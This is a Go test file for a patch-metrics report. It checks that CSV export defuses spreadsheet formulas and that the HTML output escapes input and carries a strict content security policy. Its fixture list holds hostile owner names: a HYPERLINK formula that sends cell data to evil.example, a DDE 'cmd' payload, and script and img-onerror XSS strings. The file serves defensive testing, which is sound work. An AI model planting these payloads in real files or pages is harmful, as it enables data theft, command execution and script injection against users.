package metrics

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"html"
	"regexp"
	"strings"
	"testing"
)

// hostileOwners are owner names a spreadsheet or browser would act on.
var hostileOwners = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
	"\t=1+1", "\r=1+1", `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`,
}

func hostileReport(t *testing.T) Report {
	t.Helper()
	in := fixture()
	for i, owner := range hostileOwners {
		in.Findings = append(in.Findings, Finding{ID: "x", HostID: "h1", Owner: owner, FirstSeen: at(1, 0),
			DueAt: ptr(at(2, i))})
	}
	return Compute(in, period, now)
}

func TestCSVDefusesFormulas(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := r.CSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	if got := strings.Join(rows[0], ","); got != "date,metric,owner,value" {
		t.Errorf("header = %q", got)
	}
	owners := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
		if row[1] == "overdue_by_owner" {
			owners[row[2]] = true
		}
	}
	for _, owner := range hostileOwners {
		want := owner
		if strings.ContainsRune("=+-@\t\r", rune(owner[0])) {
			want = "'" + owner
		}
		if !owners[want] {
			t.Errorf("owner %q missing; want cell %q", owner, want)
		}
	}
}

func TestCSVRowsMatchValues(t *testing.T) {
	r := Compute(fixture(), period, now)
	var buf bytes.Buffer
	if err := r.CSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cells := map[string]string{}
	for _, row := range rows[1:] {
		cells[row[0]+" "+row[1]+" "+row[2]] = row[3]
	}
	for key, want := range map[string]string{
		"current coverage ":                 "1",
		"current patch_success_rate ":       "0.75",
		"current risk_exposure_90d ":        "1214.5",
		"current overdue_by_owner bob":      "1",
		"current overdue_by_owner_held bob": "1",
		"2026-03-08 coverage ":              "0.75",
		"2026-03-08 incident_rate ":         "", // null
		"2026-03-10 hosts_patched ":         "1",
	} {
		if got, ok := cells[key]; !ok || got != want {
			t.Errorf("%s = %q (present %v), want %q", key, got, ok, want)
		}
	}
	// One row per metric for now and for each of the 3 days, plus 3 per owner.
	perPoint := len(Values{}.metrics())
	if want := 1 + 4*perPoint + 3*2; len(rows) != want {
		t.Errorf("%d rows, want %d", len(rows), want)
	}
}

func TestHTMLIsInertAndEscaped(t *testing.T) {
	r := hostileReport(t)
	var buf bytes.Buffer
	if err := r.HTML(&buf); err != nil {
		t.Fatal(err)
	}
	page := buf.String()
	for _, bad := range []string{"<script", "<img", "<a ", "<link", "<iframe", "<object", "url("} {
		if strings.Contains(page, bad) {
			t.Errorf("page contains %q", bad)
		}
	}
	for _, owner := range []string{"&lt;script&gt;alert(1)&lt;/script&gt;", "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;"} {
		if !strings.Contains(page, owner) {
			t.Errorf("hostile owner not shown escaped as %s", owner)
		}
	}
	for _, want := range []string{"Patch coverage", "100.0% of 4 hosts (1 held, 1 excepted)", "2026-03-09"} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}

	// The CSP allows no source at all, and the page's one style by its hash.
	csp := regexp.MustCompile(`http-equiv="Content-Security-Policy" content="([^"]*)"`).FindStringSubmatch(page)
	style := regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindStringSubmatch(page)
	if csp == nil || style == nil {
		t.Fatalf("page lacks a CSP or its style")
	}
	sum := sha256.Sum256([]byte(style[1]))
	want := "default-src 'none'; style-src 'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
	if got := html.UnescapeString(csp[1]); got != want {
		t.Errorf("CSP = %q, want %q", got, want)
	}
}

// FuzzSafeCell checks that any string, written as a CSV cell, reads back as
// itself or itself behind a quote, and never as a formula.
func FuzzSafeCell(f *testing.F) {
	for _, s := range append(hostileOwners, "", "alice", "'=x", "a,b\"c\nd", "-", "\r\n=1") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		w.Write([]string{safeCell(s), "x"})
		w.Flush()
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("cell %q does not read back: %v %q", s, err, rows)
		}
		got := rows[0][0]
		// encoding/csv turns \r\n inside a quoted field into \n when reading.
		norm := strings.ReplaceAll(s, "\r\n", "\n")
		if got != norm && got != "'"+norm {
			t.Fatalf("cell %q read back as %q", s, got)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
			t.Fatalf("cell %q reads back as formula %q", s, got)
		}
	})
}
